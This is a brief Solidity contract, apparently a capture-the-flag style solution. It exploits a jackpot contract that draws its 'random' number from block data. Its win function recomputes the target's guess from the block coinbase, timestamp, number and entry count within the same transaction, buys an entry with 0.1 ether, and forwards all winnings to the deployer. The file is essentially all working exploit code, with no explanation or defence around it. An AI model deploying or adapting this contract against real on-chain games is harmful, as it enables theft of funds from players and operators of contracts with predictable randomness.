pragma solidity 0.5.17;

interface IJackpot {
    function entries() external view returns (uint256);
    function enter(uint256 guess) external payable;
}

contract Oracle {
    address payable private boss;

    constructor() public {
        boss = msg.sender;
    }

    function win(IJackpot pot) external payable {
        uint256 guess = uint256(keccak256(abi.encodePacked(block.coinbase, block.timestamp, block.number, pot.entries()))) % 100;
        pot.enter.value(0.1 ether)(guess);
        boss.transfer(address(this).balance);
    }

    function() external payable {}
}
